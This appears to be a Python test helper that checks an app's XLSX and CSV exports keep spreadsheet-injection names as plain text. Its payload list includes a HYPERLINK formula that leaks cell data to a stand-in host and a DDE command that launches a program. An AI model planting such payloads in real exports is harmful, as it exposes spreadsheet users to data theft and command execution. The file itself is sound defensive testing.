"""Unit and criterion names that a spreadsheet would run as formulas (OWASP's CSV
injection examples), and checks that a file the app wrote keeps them as text."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

__all__ = ["HOSTILE_NAMES", "assert_csv_keeps_as_text", "assert_xlsx_keeps_as_text"]

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "@SUM(1+1)",
    "-2+3",
)


def assert_xlsx_keeps_as_text(content: bytes, names: tuple[str, ...] = HOSTILE_NAMES) -> None:
    """Every name is in the workbook as a text cell, word for word; no cell is a formula."""
    workbook = load_workbook(io.BytesIO(content))
    found: dict[str, str] = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if cell.value in names:
                    found[str(cell.value)] = cell.data_type
    assert found == dict.fromkeys(names, "s")


def assert_csv_keeps_as_text(text: str, names: tuple[str, ...] = HOSTILE_NAMES) -> None:
    """Every name is in the CSV behind a ``'``; no cell starts as a formula would."""
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    for name in names:
        assert "'" + name in cells, name
    for cell in cells:
        assert cell in ("", "-") or not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # a negative number, not text
